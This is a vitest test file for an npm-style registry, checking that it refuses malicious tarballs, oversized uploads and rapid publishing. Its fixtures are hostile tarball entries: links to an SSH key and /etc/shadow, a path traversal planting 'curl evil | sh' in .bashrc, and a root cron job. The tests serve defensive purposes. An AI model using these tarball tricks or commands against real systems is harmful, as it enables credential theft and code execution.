import { randomBytes } from 'node:crypto'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { createLogger } from '@aether/core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startRegistry, type RunningRegistry } from '../../src/index.js'
import { writePlainPackage } from '../adapter-package.js'
import type { NpmOutcome } from '../npm-cli.js'
import { publisherNpm } from '../publishers.js'
import { packageJsonEntry, packageTarball, putTarball, tarball, type TarEntry } from '../tarball.js'

// Tarball checks and the publish rate limit, refused through the real npm CLI. npm publishes a
// .tgz file as it is (npm publish <file>), which is how the tests hand it tarballs npm pack would
// never make. The registry takes tarballs of at most 64 KiB and 3 publish attempts per token an hour.
const maxTarballBytes = 64 * 1024
let root: string
let running: RunningRegistry
beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'aether-registry-tarballs-'))
  running = await startRegistry({
    dataDir: join(root, 'registry'), port: 0, logger: createLogger({ level: 'silent' }), hasWorker: false,
    limits: { maxTarballBytes, publishRate: { maxPublishes: 3, windowMs: 60 * 60 * 1000 } },
  })
})
afterAll(async () => {
  await running?.stop()
  await rm(root, { recursive: true, force: true })
})

/** The line npm prints with the status and the registry's reason. */
function refusal(outcome: NpmOutcome, status: number): string {
  expect(outcome.code, outcome.stdout).not.toBe(0)
  const line = outcome.stderr.split('\n').find((l) => l.startsWith(`npm error ${status} `))
  expect(line, outcome.stderr).toBeDefined()
  return line as string
}

let files = 0
/** npm publish of a hand-made tarball holding package.json and `entry`, with a new token. */
async function publishTarball(name: string, entry: TarEntry): Promise<NpmOutcome> {
  const file = join(root, `crafted-${++files}.tgz`)
  await writeFile(file, await tarball([packageJsonEntry(name), entry]))
  const npm = await publisherNpm(running, 'mallory')
  return npm.run(['publish', file, '--access', 'public'], root)
}

describe('tarballs refused at publish, with the entry named', () => {
  it('refuses a symbolic link (422)', async () => {
    expect(refusal(await publishTarball('@mallory/symlink', { header: { name: 'package/id_rsa', type: 'symlink', linkname: '/home/ci/.ssh/id_rsa' } }), 422))
      .toContain('The tarball of @mallory/symlink was refused: its entry "package/id_rsa" is a symbolic link (to "/home/ci/.ssh/id_rsa"). Publish what "npm pack" makes from plain files (npm leaves links out).')
  })

  it('refuses a hard link', async () => {
    expect(refusal(await publishTarball('@mallory/hardlink', { header: { name: 'package/shadow', type: 'link', linkname: '/etc/shadow' } }), 422))
      .toContain('its entry "package/shadow" is a hard link (to "/etc/shadow")')
  })

  it('refuses a path that leads out of the package', async () => {
    expect(refusal(await publishTarball('@mallory/traversal', { header: { name: 'package/../../../home/ci/.bashrc' }, content: 'curl evil | sh' }), 422))
      .toContain('its entry "package/../../../home/ci/.bashrc" has a path that leads out of the package (a ".." segment)')
  })

  it('refuses an absolute path', async () => {
    expect(refusal(await publishTarball('@mallory/absolute', { header: { name: '/etc/cron.d/evil' }, content: '* * * * * root sh' }), 422))
      .toContain('its entry "/etc/cron.d/evil" has an absolute path')
  })

  it('stores nothing of a refused tarball', async () => {
    expect((await fetch(`${running.url}/${encodeURIComponent('@mallory/symlink')}`)).status).toBe(404)
  })
})

describe('the tarball size cap', () => {
  it('refuses a tarball over the cap (413), and npm prints the sizes and what to do', async () => {
    const folder = await writePlainPackage(join(root, 'large'), { name: '@bulky/data', version: '1.0.0' })
    // Random bytes do not compress: the tarball is larger than the 64 KiB cap.
    await writeFile(join(folder, 'data.bin'), randomBytes(100 * 1024))
    const npm = await publisherNpm(running, 'bulky')
    const line = refusal(await npm.run(['publish', '--access', 'public'], folder), 413)
    expect(line).toMatch(/The tarball of @bulky\/data is \d+ bytes, more than the 65536 bytes this registry accepts\. Leave build inputs, tests and data out of the package/)
  })

  it('refuses a request body too large to be read at all (413) before reading it', async () => {
    const tgz = randomBytes(1536 * 1024)
    const response = await putTarball(running.url, await running.registry.tokens.create('bulky'), '@bulky/huge', '1.0.0', tgz)
    expect(response.status).toBe(413)
    expect(await response.json()).toMatchObject({
      code: 'AETHER_E_REGISTRY_TARBALL_TOO_LARGE',
      error: expect.stringContaining(`The request body is larger than this registry accepts (${Math.ceil(maxTarballBytes * 4 / 3) + 1024 * 1024} bytes for a publish`),
    })
  })
})

describe('the publish rate limit (per token)', () => {
  it('refuses the attempt after the limit with 429 and Retry-After, counting refused attempts too; other tokens go on', async () => {
    const npm = await publisherNpm(running, 'hasty')
    const tgz = (version: string) => packageTarball('@hasty/pkg', version)
    expect((await putTarball(running.url, npm.token, '@hasty/pkg', '1.0.0', await tgz('1.0.0'))).status).toBe(201)
    expect((await putTarball(running.url, npm.token, '@hasty/pkg', '1.0.0', await tgz('1.0.0'))).status).toBe(409)
    expect((await putTarball(running.url, npm.token, '@hasty/pkg', '1.0.1', await tgz('1.0.1'))).status).toBe(201)

    const limited = await putTarball(running.url, npm.token, '@hasty/pkg', '1.0.2', await tgz('1.0.2'))
    expect(limited.status).toBe(429)
    const retryAfter = Number(limited.headers.get('retry-after'))
    expect(retryAfter).toBeGreaterThan(3500)
    expect(retryAfter).toBeLessThanOrEqual(3600)
    expect((await limited.json() as { error: string }).error).toBe(
      `The token of "hasty" has made 3 publish attempts in the last 3600 s, the most this registry allows. Try again in ${retryAfter} s.`)

    // npm retries a 429 by itself (fetch-retries, 2 by default, after 10 s and more): here once is enough.
    const folder = await writePlainPackage(join(root, 'hasty'), { name: '@hasty/pkg', version: '1.0.2' })
    expect(refusal(await npm.run(['publish', '--access', 'public', '--fetch-retries', '0'], folder), 429))
      .toContain('The token of "hasty" has made 3 publish attempts in the last 3600 s, the most this registry allows. Try again in')
    // The limit is the token's: another token of the same publisher publishes.
    expect((await putTarball(running.url, await running.registry.tokens.create('hasty'), '@hasty/pkg', '1.0.2', await tgz('1.0.2'))).status).toBe(201)
  })
})
